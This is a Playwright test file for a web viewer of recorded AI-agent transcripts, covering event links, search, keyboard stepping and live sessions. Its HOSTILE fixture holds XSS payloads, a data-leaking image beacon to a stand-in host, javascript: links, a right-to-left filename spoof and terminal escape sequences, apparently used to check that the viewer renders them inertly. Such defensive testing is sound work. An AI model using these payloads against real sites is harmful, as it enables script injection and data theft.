import { createHash } from "node:crypto";
import { appendFileSync, mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { expect, type Page } from "@playwright/test";
import { pressShortcut } from "./press-shortcut.ts";
import { filler, sampleId, sampleLines, writeSample, type Sample, type SampleCall } from "./sample-sessions.ts";
import { startServer, test as base, type TestServer } from "./test-server.ts";

const ESC = "\u001b";

const shell = (command: string, output: string, prompt: number): SampleCall => ({
  tool: "Bash",
  input: { command },
  output,
  prompt,
});

const LONG: Sample = {
  id: sampleId(11),
  prompt: "Read every log of the harbour",
  calls: Array.from({ length: 300 }, (_, at) =>
    shell(
      `cat log-${at}.txt`,
      `${filler(200 + (at % 7) * 300)}\nend of log ${at}${at === 222 ? `\n${filler(6000)}the anchor drags` : ""}`,
      9000 + at * 100,
    ),
  ),
};

/** What a hostile page would do, in every field where text is shown. Nothing of it may run or ask for anything. */
const HOSTILE_TEXT = [
  "<script>window.__xss = 1</script><img src=x onerror='window.__xss = 1'><svg/onload=window.__xss=1>",
  "![beacon](https://canary.test/?d=secret) ![ref][r]\n\n[r]: https://canary.test/ref.png",
  "[click](javascript:window.__xss=1) [data](data:text/html,x) [fine](https://canary.test/page)",
  "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe><a id=config href=https://canary.test>x</a>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">',
  "admin\u202Egnp.exe and zero\u200Bwidth",
].join("\n\n");
const HOSTILE_OUTPUT = `${HOSTILE_TEXT}\n${ESC}]0;title\u0007${ESC}[2J${ESC}[8mhidden words${ESC}[0m${ESC}]8;;javascript:alert(1)${ESC}\\link${ESC}]8;;${ESC}\\ ${ESC}[32mgreen${ESC}[0m`;

const HOSTILE: Sample = {
  id: sampleId(12),
  prompt: HOSTILE_TEXT,
  calls: [
    shell(`echo '${HOSTILE_TEXT}'`, HOSTILE_OUTPUT, 9000),
    { tool: "Read", input: { file_path: HOSTILE_TEXT }, output: HOSTILE_OUTPUT, prompt: 9500 },
    {
      tool: "Edit",
      input: { file_path: "a.html", old_string: HOSTILE_TEXT, new_string: `${HOSTILE_TEXT}!` },
      output: "ok",
      prompt: 9900,
    },
    { tool: "<img src=x onerror=window.__xss=1>", input: { note: HOSTILE_TEXT }, output: HOSTILE_OUTPUT, prompt: 9950 },
  ],
};

const test = base.extend<object, { projects: string }>({
  projects: [
    // oxlint-disable-next-line no-empty-pattern -- Playwright reads the names of what a fixture needs from here
    async ({}, use) => {
      const dir = mkdtempSync(join(tmpdir(), "plimsoll-transcript-"));
      mkdirSync(join(dir, "projects"));
      // An hour old: a session that was written just now is running, and its page opens at its end.
      const anHourAgo = Date.now() / 1000 - 3600;
      for (const sample of [LONG, HOSTILE])
        utimesSync(writeSample(join(dir, "projects"), sample), anHourAgo, anHourAgo);
      await use(join(dir, "projects"));
      rmSync(dir, { recursive: true, force: true });
    },
    { scope: "worker" },
  ],
  server: [
    async ({ projects }, use) => {
      const server = await startServer({ sources: [projects] });
      await use(server);
      await server.stop();
    },
    { scope: "worker" },
  ],
});

const idOf = (sample: Sample) =>
  `s_${createHash("sha256").update(`claude-code:${sample.id}`).digest("hex").slice(0, 16)}`;
const feed = (page: Page) => page.getByRole("feed", { name: "Transcript" });
const row = (page: Page, seq: number) => page.locator(`article[data-seq="${seq}"]`);

async function open(page: Page, server: TestServer, sample: Sample, query = ""): Promise<void> {
  const path = `/api/sessions/${idOf(sample)}`;
  await expect.poll(async () => (await server.ask("GET", path)).status, { timeout: 20_000 }).toBe(200);
  await page.goto(`/sessions/${idOf(sample)}${query}`);
  await expect(feed(page).locator("[data-head], h3").first()).toBeVisible();
}

const topOf = async (page: Page, seq: number) =>
  ((await row(page, seq).boundingBox())?.y ?? -999) - ((await feed(page).boundingBox())?.y ?? 0);

test("a link to an event leads exactly there, and stays there while its rows come", async ({ page, server }) => {
  await open(page, server, LONG, "?event=400");
  await expect(row(page, 400)).toHaveAttribute("aria-current", "true");
  await expect(row(page, 400)).toContainText("First 6 of 25 lines shown");
  await expect.poll(() => topOf(page, 400)).toBeLessThanOrEqual(1);
  expect(await topOf(page, 400)).toBeGreaterThanOrEqual(-1);
  await page.goto(`/sessions/${idOf(LONG)}#e200`);
  await expect.poll(() => topOf(page, 200)).toBeLessThanOrEqual(1);
});

test("a link to an event that is not there says so, until another is chosen", async ({ page, server }) => {
  await open(page, server, LONG, "?event=99999");
  const note = page.getByText("Event 99,999 is not in this session. Its last event is");
  await expect(note).toBeVisible();
  await pressShortcut(page, "j");
  await expect(page).not.toHaveURL(/99999/);
  await expect(note).toHaveCount(0);
});

test("a call and its result are one block; an opened one shows all of it", async ({ page, server }) => {
  await open(page, server, LONG, "?event=14");
  const block = row(page, 14);
  await expect(block).toContainText("Bash");
  await expect(block).toContainText("cat log-6.txt");
  await expect(block).not.toContainText("end of log 6");
  await block.getByRole("button", { name: "Show all" }).click();
  await expect(block).toContainText("end of log 6");
  await expect(block).toContainText(/All \d+ lines shown/);
});

test("j, k, J and brackets step, and the address follows", async ({ page, server }) => {
  await open(page, server, LONG);
  await expect(row(page, 1)).toBeVisible();
  await pressShortcut(page, "j");
  await pressShortcut(page, "j");
  await expect(page).toHaveURL(/event=2\b/);
  await pressShortcut(page, "k");
  await expect(page).toHaveURL(/event=1\b/);
  for (let press = 0; press < 3; press++) await page.keyboard.press("]");
  await expect(page.getByText("Call 4", { exact: true })).toBeVisible();
});

test("find reaches text that is folded and far away, and opens it", async ({ page, server }) => {
  await open(page, server, LONG);
  await pressShortcut(page, "/");
  await page.keyboard.type("anchor drags");
  await expect(page.getByRole("search").getByRole("status")).toHaveText("1 hit");
  await page.keyboard.press("Enter");
  await expect(feed(page).getByText("the anchor drags")).toBeInViewport();
  await expect(page.getByRole("search").getByRole("status")).toHaveText("1 of 1");
  await expect(page).toHaveURL(/find=anchor/);
});

test("raw shows the record as its file has it", async ({ page, server }) => {
  await open(page, server, LONG);
  await page.getByRole("button", { name: "Raw" }).click();
  await expect(page.getByLabel("Record of event 2", { exact: true })).toContainText('"tool_use"');
  await expect(page).toHaveURL(/raw=true/);
});

test("nothing that a transcript holds runs or asks for anything, anywhere", async ({ page, server }) => {
  const strange: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(server.url)) strange.push(request.url());
  });
  page.on("dialog", (dialog) => {
    strange.push(dialog.message());
    void dialog.dismiss();
  });
  await page.route("https://canary.test/**", (route) => route.abort());
  await open(page, server, HOSTILE);
  for (const query of ["", "?raw=true", "?tab=load", "?tab=tools", "?find=window"]) {
    await page.goto(`/sessions/${idOf(HOSTILE)}${query}`);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await page.waitForTimeout(300);
    for (const button of await page.getByRole("button", { name: /^Show all$|^Show its input$/ }).all())
      await button.click({ timeout: 2000 }).catch(() => undefined);
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as unknown as Record<string, unknown>)["__xss"])).toBeUndefined();
    expect(await page.locator("main img, main iframe, main svg[onload], main script").count()).toBe(0);
    // No control character reaches the page; what would have hidden text is named.
    const text = await page.locator("main").innerText();
    expect(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u200b]/u.test(text)).toBe(false);
  }
  expect(strange).toEqual([]);
});

test("what is hidden is shown by name, and a link shows its address before it opens", async ({ page, server }) => {
  await open(page, server, HOSTILE);
  await expect(feed(page).getByText("U+202E").first()).toBeVisible();
  await expect(feed(page).getByText(/image “beacon”, canary\.test/)).toBeVisible();
  await feed(page).getByRole("button", { name: "fine" }).click();
  const dialog = page.getByRole("dialog", { name: "Open canary.test?" });
  await expect(dialog).toContainText("https://canary.test/page");
  await expect(dialog.getByRole("link")).toHaveAttribute("rel", "noreferrer noopener");
  await page.keyboard.press("Escape");
  await expect(feed(page).getByRole("button", { name: "click" })).toHaveCount(0);
});

test("a running session is followed to its end, until the reader scrolls up", async ({ page, server, projects }) => {
  const sample: Sample = {
    ...LONG,
    id: sampleId(13),
    prompt: "Keep watch",
    startedAt: new Date(Date.now() - 30_000).toISOString(),
    calls: LONG.calls.slice(0, 60),
  };
  const lines = sampleLines(sample);
  const file = join(projects, "-home-sailor-harbour", `${sample.id}.jsonl`);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, lines.slice(0, 81).join(""));
  await open(page, server, sample);
  await expect(feed(page)).toContainText("cat log-39.txt");
  appendFileSync(file, lines.slice(81, 101).join(""));
  await expect(feed(page).getByText("cat log-49.txt")).toBeVisible({ timeout: 15_000 });
  await feed(page).hover();
  await page.mouse.wheel(0, -3000);
  await expect(page.getByRole("button", { name: "Follow the end" })).toBeVisible();
  const before = await feed(page).evaluate((element) => element.scrollTop);
  appendFileSync(file, lines.slice(101).join(""));
  await page.waitForTimeout(4000);
  expect(await feed(page).evaluate((element) => element.scrollTop)).toBe(before);
  await page.getByRole("button", { name: "Follow the end" }).click();
  await expect(feed(page).getByText("cat log-59.txt")).toBeVisible({ timeout: 15_000 });
});
